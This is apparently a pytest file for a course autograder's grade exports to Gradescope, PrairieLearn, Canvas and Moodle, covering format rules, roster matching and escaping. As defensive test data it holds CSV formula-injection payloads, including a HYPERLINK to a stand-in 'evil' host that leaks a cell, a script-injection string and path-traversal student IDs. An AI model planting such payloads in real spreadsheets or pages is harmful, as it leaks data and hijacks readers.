"""Each export against its platform's documented format, written from result rows.

The rules come from the platforms' documentation:
- Gradescope autograder specification: results.json top level ``score``, ``execution_time``
  (seconds), ``output``, ``output_format``, ``stdout_visibility``, ``tests``; per test ``name``,
  ``number``, ``score``, ``max_score``, ``status`` ("passed"/"failed"), ``output``,
  ``output_format`` ("text", "html", "simple_format", "md", "ansi"), ``visibility`` ("hidden",
  "after_due_date", "after_published", "visible"), ``tags``.
- PrairieLearn external grading: ``score`` in [0.0, 1.0], ``gradable`` (when false,
  ``format_errors``: a string or a list of strings), ``message``, ``output``, ``tests`` with
  ``name``, ``points``, ``max_points``, ``message``, ``output``; under 1 MB.
- Canvas gradebook import: header ``Student, ID, SIS User ID, SIS Login ID, Section``, then
  assignment columns (``Name (id)`` updates assignment id, a new name creates one), a
  ``Points Possible`` row.
- Moodle grade import (CSV): an identifier column mapped by name ("Email address", "Username",
  "ID number"), ``<item> (Real)`` grade columns and ``<item> (Feedback)`` feedback columns.
"""

from __future__ import annotations

import json

import pytest

from platforms_support import (EX2, EX3, EX4, assert_gradescope_format, assert_prairielearn_format, check, graded,
                               missing, parse, partial, perfect)
from pttutor.grader.classroom import exports
from pttutor.grader.platforms import canvas, feedback, gradescope, moodle, prairielearn
from pttutor.grader.platforms.spreadsheet import cell

FORMULA = ("=", "+", "-", "@", "\t", "\r")


# ----------------------------------------------------------------------------- Gradescope


def test_gradescope_results_follow_the_specification():
    rows = [perfect("amy", EX2), partial("amy", EX3), missing("amy", EX4)]
    data = gradescope.results(rows, [EX2, EX3, EX4], execution_time=12.6)
    assert_gradescope_format(data)
    assert data["score"] == 10 + 4 and data["execution_time"] == 13
    by_name = {t["name"]: t for t in data["tests"]}
    assert by_name[f"{EX2}: public_a is right"] == {
        "name": f"{EX2}: public_a is right", "number": "1.1", "score": 4, "max_score": 4, "status": "passed",
        "output": "Passed.", "output_format": "md", "visibility": "visible", "tags": [EX2, "public"]}
    failed = by_name[f"{EX3}: public_b is right"]
    assert failed["status"] == "failed" and failed["score"] == 0 and "cost_surface_not_transposed" in failed["output"]
    assert by_name[f"{EX3}: hidden_a is right"]["visibility"] == "after_due_date"
    absent = by_name[f"{EX4}: not submitted"]
    assert absent["status"] == "failed" and absent["max_score"] == 10
    assert "ex04\\_backprop.py" in absent["output"] and absent["number"] == "3.0"
    assert "not active" in data["output"].lower() and "container" in data["output"]


@pytest.mark.parametrize(("public", "hidden"), [("visible", "hidden"), ("after_published", "after_due_date")])
def test_gradescope_visibility_options(public, hidden):
    data = gradescope.results([partial("amy", EX3)], [EX3], public, hidden)
    assert_gradescope_format(data)
    assert {t["visibility"] for t in data["tests"] if "hidden" in t["tags"]} == {hidden}
    assert {t["visibility"] for t in data["tests"] if "public" in t["tags"]} == {public}
    with pytest.raises(ValueError, match="visibility"):
        gradescope.results([partial("amy", EX3)], [EX3], "sometimes")


def test_gradescope_output_fences_what_the_student_controls():
    row = graded("amy", EX2, [check("a", False, 1, message="got ```</pre><script>alert(1)</script>")])
    output = gradescope.results([row], [EX2])["tests"][0]["output"]
    fence_line = next(line for line in output.splitlines() if line.startswith("```"))
    assert len(fence_line) >= 4 and output.rstrip().endswith(fence_line)  # a fence longer than any inside


# ----------------------------------------------------------------------------- PrairieLearn


def test_prairielearn_results_follow_the_format():
    data = prairielearn.results([perfect("s", EX2), partial("s", EX3), missing("s", EX4)], [EX2, EX3, EX4])
    assert_prairielearn_format(data)
    assert data["gradable"] is True and data["score"] == pytest.approx(14 / 30)
    hidden = next(t for t in data["tests"] if t["name"] == f"{EX3}: hidden_a is right")
    assert "SECRET-HIDDEN-DETAIL" not in json.dumps(data)  # hidden checks: verdict only
    assert hidden["message"].startswith("failed")
    shown = prairielearn.results([partial("s", EX3)], [EX3], show_hidden=True)
    assert "SECRET-HIDDEN-DETAIL" in json.dumps(shown)


def test_prairielearn_nothing_submitted_is_not_gradable():
    data = prairielearn.results([missing("s", EX2)], [EX2])
    assert_prairielearn_format(data)
    assert data["gradable"] is False and data["score"] == 0.0
    assert "ex02_cost_surface.py" in data["format_errors"][0]


# ----------------------------------------------------------------------------- Canvas

ROSTER = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,ex02-cost-surface (1101),Quiz 1 (1300),Current Score\n"
    "    Points Possible,,,,,10,5,(read only)\n"
    '"Lovelace, Ada",501,S-1,ada,Lab A,,4,80\n'
    '"Turing, Alan",502,S-2,aturing@uni.edu,Lab A,,5,90\n'
    '"Hopper, Grace",503,S-3,grace,Lab B,,3,70\n'
    '"=HYPERLINK(""http://evil/""),Eve",504,S-4,eve,Lab B,,0,0\n'
    '"Smith, Jo",505,S-5,jsmith1,Lab B,,0,0\n'
    '"Smith, Jo",506,S-6,jsmith2,Lab B,,0,0\n'
)


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "gradebook.csv"
    path.write_text(ROSTER, encoding="utf-8")
    return canvas.read_roster(path)


def test_canvas_roster_is_read_as_canvas_writes_it(roster):
    assert [p.get("ID") for p in roster.students] == ["501", "502", "503", "504", "505", "506"]
    assert roster.assignments == [("ex02-cost-surface (1101)", "ex02-cost-surface"), ("Quiz 1 (1300)", "Quiz 1")]


def test_canvas_matches_by_login_sis_id_canvas_id_email_and_name(roster):
    subs = ["ADA", "S-2", "503", "aturing@uni.edu", "eve@gmail.com", "Jo Smith", "nobody"]
    result = canvas.match(roster, subs)
    assert {s: (roster.students[i].get("ID"), how) for s, (i, how) in result.matched.items()} == {
        "ADA": ("501", "SIS Login ID"), "S-2": ("502", "SIS User ID"), "503": ("503", "ID"),
        "eve@gmail.com": ("504", "email")}
    assert "already matched S-2" in result.unmatched["aturing@uni.edu"]
    assert result.unmatched["Jo Smith"].startswith("ambiguous")
    assert "no roster student" in result.unmatched["nobody"]
    assert [roster.students[i].get("ID") for i in result.without_submission] == ["505", "506"]
    by_name = canvas.match(roster, ["grace_hopper", "Lovelace, Ada"])
    assert {s: how for s, (_, how) in by_name.matched.items()} == {"grace_hopper": "name", "Lovelace, Ada": "name"}


def test_canvas_csv_has_the_importers_columns_ids_and_points_possible(roster):
    rows = [perfect("ada", EX2), missing("ada", EX3), partial("S-2", EX2), perfect("S-2", EX3),
            perfect("stranger", EX2), perfect("stranger", EX3)]
    table, matching, problems = canvas.gradebook(rows, roster, [EX2, EX3])
    lines = parse(table)
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                        "ex02-cost-surface (1101)", EX3]  # the roster's own column with its id; a new one
    assert lines[1] == ["Points Possible", "", "", "", "", "10", "10"]
    body = {line[1]: line for line in lines[2:]}
    assert list(body) == ["501", "502", "503", "504", "505", "506"]  # every roster student, roster order
    assert body["501"] == ["Lovelace, Ada", "501", "S-1", "ada", "Lab A", "10", "0"]
    assert body["502"][5:] == ["4", "10"]
    assert body["503"][5:] == ["0", "0"]  # no submission: missing work is 0 by default
    assert body["504"][0].startswith("'=HYPERLINK")
    report = parse(matching)
    assert ["stranger", "", "", "", "NOT MATCHED: no roster student has this login, id, email or name"] in report
    assert ["", "Hopper, Grace", "503", "grace", "NO SUBMISSION"] in report
    assert any("stranger" in p for p in problems) and any("Hopper, Grace" in p for p in problems)
    blank = {line[1]: line for line in parse(canvas.gradebook(rows, roster, [EX2, EX3], "blank")[0])[2:]}
    assert blank["501"][5:] == ["10", ""] and blank["503"][5:] == ["", ""]


def test_canvas_column_found_by_title_or_id_prefix(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("Student,ID,SIS User ID,SIS Login ID,Section,ex03-gradient-descent: GD by hand (7),"
                    "The MSE cost surface of a linear model (8),ex02-cost-surface-old (9)\n", encoding="utf-8")
    assert canvas.columns(canvas.read_roster(path), [EX2, EX3]) == [
        "The MSE cost surface of a linear model (8)", "ex03-gradient-descent: GD by hand (7)"]


@pytest.mark.parametrize("text", ["", "name,score\nada,3\n", "Student,Section\nx,y\n"])
def test_canvas_refuses_a_file_that_is_not_a_gradebook_export(tmp_path, text):
    path = tmp_path / "r.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(canvas.RosterError):
        canvas.read_roster(path)


# ----------------------------------------------------------------------------- Moodle


@pytest.mark.parametrize(("students", "identifier"), [(["a@x.org", "b@x.org"], "Email address"),
                                                      (["1001", "1002"], "ID number"), (["ada", "1002"], "Username")])
def test_moodle_columns_map_directly(students, identifier):
    rows = [r for s in students for r in (partial(s, EX2), missing(s, EX3))]
    lines = parse(moodle.gradebook(rows, students, [EX2, EX3]))
    assert lines[0] == [identifier, f"{EX2} (Real)", f"{EX2} (Feedback)", f"{EX3} (Real)", f"{EX3} (Feedback)"]
    first = lines[1]
    assert first[0] == students[0] and first[1] == "4" and first[3] == "0"
    assert "cost_surface_not_transposed" in first[2] and "SECRET-HIDDEN-DETAIL" not in first[2]
    assert "hidden_a is right (hidden)" in first[2] and "not submitted" in first[4].lower()
    blank = parse(moodle.gradebook(rows, students, [EX2, EX3], missing="blank"))
    assert blank[1][3] == "" and blank[1][1] == "4"
    assert "SECRET-HIDDEN-DETAIL" in moodle.gradebook(rows, students, [EX2, EX3], show_hidden=True)


# ----------------------------------------------------------------------------- feedback files


def test_feedback_markdown_and_html():
    student = "<b>amy</b>"
    rows = [partial(student, EX2), missing(student, EX3)]
    md = feedback.markdown(student, rows, [EX2, EX3], show_hidden=False)
    assert "&lt;b&gt;amy&lt;/b&gt;" in md and "<b>" not in md
    assert f"## {EX2}: 4/10" in md and "cost\\_surface\\_not\\_transposed" not in md
    assert "cost_surface_not_transposed" in md  # inside a code block, verbatim
    assert "SECRET-HIDDEN-DETAIL" not in md and "hidden\\_a is right (hidden)" in md
    assert "ex03\\_gradient\\_descent.py" in md
    page = feedback.html_page(student, rows, [EX2, EX3], show_hidden=False)
    assert "&lt;b&gt;amy&lt;/b&gt;" in page and "<b>amy" not in page and "SECRET-HIDDEN-DETAIL" not in page
    assert "PASS" in page and "FAIL" in page and "4/10" in page
    assert "SECRET-HIDDEN-DETAIL" in feedback.html_page(student, rows, [EX2, EX3], show_hidden=True)


# ----------------------------------------------------------------------------- formulas in every CSV

ATTACKS = ['=HYPERLINK("evil.example?leak="&A1,"grade")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.mark.parametrize("text", ATTACKS)
def test_cell_escapes_formulas(text):
    assert cell(text) == "'" + text
    assert cell("ada") == "ada" and cell(10) == "10" and cell(None) == ""


def test_every_csv_export_escapes_formulas(tmp_path, roster):
    rows = [r for s in ATTACKS + ["ada"] for r in (perfect(s, EX2), missing(s, EX3))]
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")
    settings = exports.Settings(("lms", "canvas", "moodle"), tmp_path / "roster.csv")
    written = exports.write_exports(tmp_path, rows, settings)
    csvs = [p for p in written.paths if p.suffix == ".csv"]
    assert {p.name for p in csvs} == {"gradebook.csv", "lms.csv", "canvas.csv", "canvas-matching.csv", "moodle.csv"}
    for path in csvs:
        cells = [c for line in parse(path.read_text(encoding="utf-8")) for c in line]
        assert not [c for c in cells if c.startswith(FORMULA)], path.name
    gradebook = (tmp_path / "gradebook.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in gradebook and "'@SUM" in gradebook


def test_exports_are_a_function_of_the_rows(tmp_path):
    rows = [perfect("bob", EX3), missing("amy", EX2), partial("amy", EX3), perfect("bob", EX2)]
    settings = exports.Settings(("lms", "moodle", "gradescope", "feedback"))
    first = exports.write_exports(tmp_path / "a", rows, settings)
    second = exports.write_exports(tmp_path / "b", list(reversed(rows)), settings)
    texts = [{p.relative_to(tmp_path / d).as_posix(): p.read_bytes() for p in w.paths}
             for d, w in (("a", first), ("b", second))]
    assert texts[0] == texts[1]
    assert set(texts[0]) >= {"gradebook.csv", "feedback/amy.md", "feedback/bob.html", "gradescope/amy/results.json"}
    assert parse(texts[0]["gradebook.csv"].decode())[0] == ["student", EX2, EX3, "total"]  # course order


def test_canvas_without_a_roster_is_refused():
    with pytest.raises(exports.ExportError, match="--roster"):
        exports.Settings(("canvas",)).check()


@pytest.mark.parametrize("student", ["../escape", ".hidden", "a/b"])
def test_student_ids_never_name_files_outside_the_exports(tmp_path, student):
    with pytest.raises(exports.ExportError, match="cannot name a file"):
        exports.write_exports(tmp_path / "out", [perfect(student, EX2)], exports.Settings(("feedback",)))
    assert not (tmp_path / "escape.md").exists() and not (tmp_path / "out").exists()


def test_canvas_matches_an_email_column(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Email\n"
                    "\"Noether, Emmy\",9,,en42,A,Emmy.Noether@Uni.edu\n", encoding="utf-8")
    result = canvas.match(canvas.read_roster(path), ["emmy.noether@uni.edu"])
    assert result.matched == {"emmy.noether@uni.edu": (0, "email")}
